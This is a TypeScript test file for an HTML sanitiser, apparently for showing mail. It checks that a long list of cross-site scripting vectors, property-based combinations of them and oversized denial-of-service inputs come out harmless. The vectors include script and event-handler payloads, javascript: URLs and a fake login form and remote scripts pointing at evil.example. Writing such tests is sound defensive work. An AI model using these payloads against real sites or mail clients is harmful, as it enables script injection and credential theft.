import fc from 'fast-check'
import { expect, test } from 'vitest'
import { safeHtml, textOfHtml } from './html.ts'

/** What scanners of web applications and mail programs have been caught by. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/x>alert(1)</script\t\n bar>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img srcset="https://tracker.example/p.gif 1x">',
  '<p style="background:url(https://tracker.example/p.gif)">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><img src=1 onerror=alert(1)>--></style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://x.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://x.example" target="_self" rel="opener">x</a>',
  "<a href='https://x.example/\"onmouseover=alert(1) '>x</a>",
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" onclick=x>x</td>',
  '<p id="app" class="modal" name="cookie" data-x="1">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><?import namespace="x" implementation="//evil.example">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<font color="red" size="7" face="x" onclick=alert(1)>x</font>',
  '<p title="</p><script>alert(1)</script>',
  '<a title="\'><img src=x onerror=alert(1)>" href="https://x.example">x</a>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

const attributes: Record<string, RegExp> = {
  href: /^(?:https?:|mailto:|tel:)/i,
  title: /^/,
  colspan: /^/,
  rowspan: /^/,
  align: /^/,
  color: /^/,
  size: /^/,
  rel: /^noopener noreferrer nofollow$/,
  target: /^_blank$/,
}
const neverAllowed =
  /^(?:script|style|img|svg|math|iframe|object|embed|form|input|button|select|textarea|base|meta|link|template|noscript|xmp|title|body|html|video|audio|details|marquee)$/

/** Read strictly: whatever is not a plain tag with plain attributes is a fault. */
function faultsIn(html: string): string[] {
  const faults: string[] = []
  const rest = html.replaceAll(
    /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g,
    (_all, _end, name: string, given: string) => {
      if (neverAllowed.test(name)) faults.push(name)
      for (const [, key = '', value = ''] of given.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
        if (!attributes[key]?.test(value)) faults.push(`${key}=${value}`)
      }
      return ''
    },
  )
  return rest.includes('<') ? [...faults, rest] : faults
}

test.each(vectors)('%s does nothing when it is shown', (vector) => {
  expect(faultsIn(safeHtml(vector))).toEqual([])
})

test('nor does anything that is put together from them', () => {
  const pieces = vectors.flatMap((vector) => [vector, ...vector.split(/(?=[<>"'])/)])
  const html = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map((some) => some.join(''))
  fc.assert(
    fc.property(html, (given) => {
      expect(faultsIn(safeHtml(given))).toEqual([])
    }),
    { numRuns: 500 },
  )
})

test('what a mail is for stays', () => {
  const html =
    '<p>Hi <b>Ada</b>,<br>see <a href="https://x.example/a?b=1&amp;c=2" title="t">this</a> or ' +
    '<a href="mailto:ada@x.example">write</a>.</p><table><tr><td colspan="2">1</td></tr></table>'
  const outside = ' rel="noopener noreferrer nofollow" target="_blank"'
  expect(safeHtml(html)).toBe(
    html
      .replace('<br>', '<br />')
      .replace(' title="t"', ` title="t"${outside}`)
      .replace('ada@x.example"', `ada@x.example"${outside}`),
  )
})

test.each([
  ['nested', '<b>'.repeat(100_000)],
  ['crossed', `${'<a><b>'.repeat(60_000)}${'</a>'.repeat(60_000)}`],
  ['never closed', '<b></i>'.repeat(60_000)],
  ['closed by themselves', '<td><p>'.repeat(60_000)],
  ['unclosed', '<a href="'.repeat(50_000)],
  ['brackets', '<'.repeat(500_000)],
  ['comments', '<!--'.repeat(100_000)],
  ['entities', '&amp;'.repeat(100_000)],
  ['closed in comments', '<b><!--</b>-->'.repeat(36_000)],
  ['closed in attributes', '<b a="</b>">'.repeat(40_000)],
  ['tags in tags', '<b<i>>'.repeat(80_000)],
  ['frames', '<iframe>'.repeat(60_000)],
])('%s: a mail that is meant to take long does not', (_what, html) => {
  expect(faultsIn(safeHtml(html))).toEqual([])
  expect(textOfHtml(html).length).toBeLessThanOrEqual(html.length)
})
